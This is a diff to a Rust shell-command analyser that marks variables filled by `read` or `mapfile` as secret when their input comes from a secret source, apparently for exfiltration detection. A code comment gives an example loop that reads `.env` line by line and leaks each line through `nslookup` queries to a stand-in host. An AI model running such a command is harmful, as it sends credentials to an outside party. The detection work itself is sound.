@@ -1037,7 +1037,15 @@ impl Walker<'_> {
             }
             "set" | "shift" | "read" | "mapfile" | "readarray" | "getopts" | "let" | "wait"
             | "unset" | "shopt" | "hash" => {
-                Self::shell_builtin(&name, args, scope);
+                // What `read`/`mapfile` assign is the data they read: a secret makes the
+                // variables secret sources (`while read -r l; do nslookup "$l.x.example";
+                // done < .env`).
+                let secret = match &stdin {
+                    Producer::Secret(source) => Some(source.clone()),
+                    Producer::Nothing => self.group_secret.clone(),
+                    _ => None,
+                };
+                Self::shell_builtin(&name, args, scope, secret.as_ref());
                 self.classify_plain(&name, argv, scope);
                 self.producer_of(&name, args, &stdin, scope)
             }
